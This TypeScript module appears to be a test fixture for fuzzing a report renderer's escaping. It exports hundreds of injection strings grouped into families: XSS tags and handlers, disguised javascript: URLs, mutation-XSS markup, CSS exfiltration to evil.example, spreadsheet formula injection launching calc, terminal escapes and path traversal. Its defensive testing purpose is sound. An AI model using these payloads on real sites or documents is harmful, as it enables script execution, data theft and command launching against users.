/** Text that has broken reports before: written to get out of the place it is put in. Every field gets each of them. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onload=`alert(1)`',
  '<svg/onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">go</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://evil.example/"onclick="alert(1)',
  'http://evil.example/?<script>',
  '//evil.example/x.js',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><button>',
  '<object data=//evil.example>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<!--',
  '-->',
  '<!-- --!><script>alert(1)</script>',
  ']]>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<%= 7*7 %>',
  '{{7*7}}',
  '${7*7}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&quot; onload=&quot;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '</bdi></td></table></main><script>alert(1)</script>',
  'line\u2028separator',
  'paragraph\u2029separator',
  'next\u0085line',
  'right\u202eto left\u202c',
  'isolate\u2066x\u2069',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\',
  '\u009b2J',
  'nul\u0000byte',
  'bell\u0007 back\u0008space del\u007f',
  'carriage\rreturn',
  'lone \ud800 surrogate',
  'lone \udc00 surrogate',
  'non\ufffecharacter',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '"=1+1',
  '=HYPERLINK("https://evil.example","x")',
  'a,b;c\td',
  'say ""this""',
  '[link](https://evil.example)',
  '![image](https://evil.example/x.png)',
  '[x]: https://evil.example',
  '<https://evil.example>',
  'https://evil.example/path',
  'www.evil.example',
  'mail@evil.example',
  '@everyone and #12 and GH-12',
  '# heading',
  '## What changed',
  '- item\n- item',
  '1. item',
  '> quote',
  '| a | b |\n| - | - |',
  '```\n# out of the block\n```',
  '````\nout\n````',
  '~~~\nout\n~~~',
  '`code`',
  '**bold** __bold__ *it* _it_ ~~gone~~',
  '$x^2$ $$y$$',
  ':smile:',
  '\\',
  '\\[x\\]',
  '***\n---\n===',
  '<details><summary>x</summary>',
  '<br>',
  '__proto__',
  'constructor',
  'toString',
  '%s%n%d',
  '../../etc/passwd',
  '#"><img src=x onerror=alert(1)>',
  'ﷺ⁦⃝ \u0301\u0301\u0301',
];

const ACTS = [
  '<script>alert(1)</script>',
  '<img src=x: onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
];

const every = (first: readonly string[], second: readonly string[], join = (a: string, b: string) => a + b): string[] =>
  first.flatMap((one) => second.map((other) => join(one, other)));

/** Ends of everything that text of a report may stand in, with something to run behind each. */
function leaving(): string[] {
  const ends = '" \' ` > "> \'> `> --> --!> ]]> ?> %> */ ; } </p> </bdi> </td></tr></table> </dl> </main></body>'.split(
    ' ',
  );
  const raw = [
    'script',
    'style',
    'title',
    'textarea',
    'noscript',
    'template',
    'select',
    'option',
    'svg',
    'math',
    'xmp',
  ];
  const closings = raw.flatMap((name) => [`</${name}>`, `</${name.toUpperCase()}\t/x>`]);
  return [...every(ends, ACTS.slice(0, 2)), ...every(closings, ACTS.slice(0, 2))];
}

/** Out of an attribute's quotation marks and on with attributes that run something by themselves. */
function attributes(): string[] {
  const added = [
    'onmouseover=alert(1) x=',
    'autofocus tabindex=0 onfocus=alert(1) x=',
    'style=animation:a onanimationstart=alert(1) x=',
    'style=transition:1s ontransitionend=alert(1) x=',
    'onbeforetoggle=alert(1) popover id=x x=',
    'oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto x=',
    'formaction=javascript:alert(1) type=submit x=',
    'srcdoc=&lt;script&gt;alert(1)&lt;/script&gt; x=',
    'href=javascript:alert(1) x=',
    'style=background:url(//evil.example/a) x=',
    'lang=en onload=alert(1) x=',
  ];
  return ['"', "'", '`', ' ', '/'].flatMap((quote) => added.map((attribute) => `${quote} ${attribute}${quote}`));
}

/** Addresses that run or read something, in the disguises that browsers see through. */
function addresses(): string[] {
  const running = [
    'javascript:alert(1)',
    'javascript://evil.example/%0aalert(1)',
    'javascript:/*--></title>*/alert(1)',
  ];
  const disguised = (address: string): string[] => [
    address,
    address.toUpperCase(),
    ` ${address}`,
    `\u0001${address}`,
    `\u00a0${address}`,
    `\ufeff${address}`,
    address.replace('script', 'scr\nipt'),
    address.replace('script', 'scr\tipt'),
    address.replace('script', 'scr\u0000ipt'),
    address.replace(':', '&colon;'),
    address.replace(':', '&#58'),
    address.replace('j', '&#x6A;'),
    address.replace('a', '\\u0061'),
    address.replace(':', '%3A'),
    address.replace('s', '\u017f'),
  ];
  return [
    ...running.flatMap(disguised),
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/json;base64,e30=',
    'data:,<script>alert(1)</script>',
    'blob:null/0',
    'filesystem:file:///temporary/x',
    'view-source:about:blank',
    'file:///etc/passwd',
    'about:blank#<script>alert(1)</script>',
    'http:evil.example',
    'https:\\\\evil.example',
    '/\\evil.example',
    'https://tidings.example@evil.example/',
    'https://tidings.example\u202e/moc.live',
    'https://tidings.example/\u2028x',
    'https://tidings.example/&quot;onclick=alert(1)',
    'https://tidings.example/`onclick=alert(1)`',
    'https://tidings.example/\\"onclick=\\"alert(1)',
    'https://tidings.example/#<svg onload=alert(1)>',
    "https://tidings.example/'-alert(1)-'",
    'https://[::1]/?q=${alert(1)}',
    'https://',
    'HTTPS://TIDINGS.EXAMPLE/',
  ];
}

/** Elements that fetch by being there. */
function fetching(): string[] {
  const from = '//evil.example/x';
  return [
    `<img src=${from}>`,
    `<img srcset="${from} 1x">`,
    `<picture><source srcset=${from}><img></picture>`,
    `<video src=${from} autoplay></video>`,
    `<video poster=${from}></video>`,
    `<audio src=${from} autoplay></audio>`,
    `<video><track default src=${from}></video>`,
    `<embed src=${from}>`,
    `<object data=${from}></object>`,
    `<iframe src=${from}></iframe>`,
    `<frameset><frame src=${from}></frameset>`,
    `<input type=image src=${from}>`,
    `<body background=${from}>`,
    `<table background=${from}><tr><td>x</table>`,
    `<link rel=prefetch href=${from}>`,
    `<link rel=dns-prefetch href=${from}>`,
    `<link rel=modulepreload href=${from}>`,
    `<link rel=manifest href=${from}>`,
    `<script src=${from}></script>`,
    `<script type=module>import "${from}"</script>`,
    `<script type=importmap>{"imports":{"x":"${from}"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${from}"]}]}</script>`,
    `<svg><image href=${from} /></svg>`,
    `<svg><use href=${from}#a /></svg>`,
    `<svg><feImage href=${from} /></svg>`,
    `<svg><a href="javascript:alert(1)"><text y=9>x</text></a></svg>`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s />`,
    `<svg><set attributeName=onmouseover to=alert(1) />`,
    `<meta http-equiv=refresh content="0;url=https:${from}">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<meta http-equiv=set-cookie content="a=b">`,
    `<base href="https:${from}">`,
    `<base target="x">`,
    `<portal src=${from}></portal>`,
    `<form action=${from}><input autofocus><button>x</button></form>`,
    `<button form=filters formaction=${from}>x</button>`,
    `<dialog open>x</dialog>`,
    `<marquee onstart=alert(1)>x</marquee>`,
    `<details open ontoggle=alert(1)>x</details>`,
    `<x-y is=x-y contenteditable>x</x-y>`,
  ];
}

/** Markup that means one thing to whoever cleans it and another to whoever parses it again. */
function twoMeanings(): string[] {
  const roots = ['svg', 'math'];
  const ways = ['foreignObject', 'desc', 'title', 'mtext', 'annotation-xml encoding=text/html'];
  const raw = ['style', 'noscript', 'textarea', 'xmp', 'noembed'];
  const nested = roots.flatMap((root) =>
    ways.flatMap((way) =>
      raw.map((name) => `<${root}><${way}><${name}><!--</${name}><p title="--><img src=x: onerror=alert(1)>">`),
    ),
  );
  return [
    ...nested,
    '<table><p><a href="</table><svg onload=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert(1)>',
    '<select><template><script>alert(1)</script></template></select>',
    '<p is="</p><script>alert(1)</script>">',
    '<!--><script>alert(1)</script>-->',
    '<!---!><script>alert(1)</script>',
    '<!x><script>alert(1)</script>',
    '</ ><script>alert(1)</script>',
    '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
    '<plaintext><script>alert(1)</script>',
    '<<script>alert(1)//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img """><script>alert(1)</script>">',
    '<a\u000chref=javascript:alert(1)>x</a>',
  ];
}

function styles(): string[] {
  return [
    '} body { display: none } a {',
    '}*{background:url(//evil.example/x)}',
    '@import "//evil.example/x.css";',
    '@font-face{font-family:x;src:url(//evil.example/x)}',
    'color:red;background:url(javascript:alert(1))',
    'expression(alert(1))',
    '-moz-binding:url(//evil.example/x#y)',
    '\\3c script\\3e',
    '/*</style><script>alert(1)</script>*/',
    '"};*{color:red}/*',
    'url("//evil.example/x")',
    'input[value^="a"]{background:url(//evil.example/a)}',
    '</style><link rel=stylesheet href=//evil.example/x>',
    '<style>*{display:none!important}</style>',
  ];
}

function entities(): string[] {
  return [
    '&lt;img src=x: onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;',
    '&amp;amp;amp;lt;b&amp;amp;amp;gt;',
    '&ltscript&gtalert(1)&lt/script&gt',
    '&#x3c;script&#x3E;',
    '&#0000060;script&#00000062;',
    '&#60script&#62',
    '&Tab;&NewLine;&nbsp;&ZeroWidthSpace;',
    '&quot;&apos;&#39;&#34;&grave;',
    '&copy=1&reg=2&notin;&not',
    '&#0;&#x80;&#xD800;&#x110000;&#128;',
    '&unknown; & &; &# &#x; &#xg;',
    '&lbrace;&dollar;&lpar;&colon;',
    '&amp',
    '<&#115;cript>',
  ];
}

function programs(): string[] {
  return [
    '";alert(1)//',
    "';alert(1)//",
    '`;alert(1)//',
    '${alert(1)}',
    '`${alert(1)}`',
    '#{7*7} [[7*7]] {%7*7%} <#7*7>',
    '{{constructor.constructor("alert(1)")()}}',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\\x3cscript\\x3e',
    '\\";alert(1)//',
    '*/alert(1)/*',
    '<!--<script>',
    '<!--<script></script>',
    '<![CDATA[ ]]]]><![CDATA[>',
    '</script\u000c><script>alert(1)</script>',
    '</SCRIPT><script>alert(1)</script>',
    '\u2028alert(1)//',
    '\u2029alert(1)//',
    '{"__proto__":{"x":1}}',
    'hasOwnProperty',
    'valueOf',
    '//# sourceMappingURL=//evil.example/x',
    "$& $1 $` $' $$ $<x>",
    '%c %o %s',
  ];
}

/** Names that the page or its script uses for itself. */
function takenNames(): string[] {
  const names = ['filters', 'shown', 'answer', 'changed', 'texts', 'made', 'document', 'location', 'body', 'elements'];
  return names.map((name) => `<i id=${name} name=${name}>${name}</i>`);
}

const hex = (code: number): string => String.fromCodePoint(code);

/** Signs that are not seen but act, or that no file can hold, between two letters. */
function signs(): string[] {
  const codes = [
    ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1a, 0x1b, 0x1c, 0x1f, 0x7f, 0x80, 0x84, 0x85, 0x90, 0x9b, 0x9f],
    ...[0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029],
    ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206f, 0x3000],
    ...[0xd800, 0xdbff, 0xdc00, 0xdfff, 0xe000, 0xfe0f, 0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff],
    ...[0x1d173, 0x1fffe, 0x1ffff, 0xe0001, 0xe0061, 0xe0100, 0x10ffff],
  ];
  return [
    ...codes.map((code) => `be${hex(code)}fore`),
    'evil\u202egpj.exe',
    '\u202e<script>alert(1)</script>\u202c',
    '\u2067\u2067\u2067open isolates',
    '\u202a'.repeat(200) + 'deep',
    '\udc00\ud800 halves the wrong way round',
    'e' + '\u0301'.repeat(300),
    '\u0e49'.repeat(60),
    '👩\u200d👩\u200d👧\u200d👦🏽🏳️\u200d🌈',
  ];
}

/** Disguises of `<` that a careless conversion would undress. */
function conversions(): string[] {
  return [
    '＜script＞alert(1)＜/script＞',
    '﹤script﹥alert(1)﹤/script﹥',
    '‹script›alert(1)‹/script›',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%253Cscript%253E',
    '\u00c0\u00bcscript\u00c0\u00be',
    '\u013cscript\u013e',
    '\u00bf" onload=alert(1)//',
    '\u001b$B<script>\u001b(B',
    '=?utf-8?B?PHNjcmlwdD4=?=',
  ];
}

function large(): string[] {
  return ['<'.repeat(2000), '&'.repeat(2000), '"'.repeat(2000), '<b>'.repeat(700), 'w'.repeat(5000), '\n'.repeat(300)];
}

/** Payloads by family, made from parts: what the hand-written list has one of, this has each of. */
export const payloadFamilies: Readonly<Record<string, readonly string[]>> = {
  'by hand': payloads,
  leaving: leaving(),
  attributes: attributes(),
  addresses: addresses(),
  fetching: fetching(),
  'two meanings': twoMeanings(),
  styles: styles(),
  entities: entities(),
  programs: programs(),
  'taken names': takenNames(),
  signs: signs(),
  conversions: conversions(),
  large: large(),
};

export const everyPayload: readonly string[] = [...new Set(Object.values(payloadFamilies).flat())];
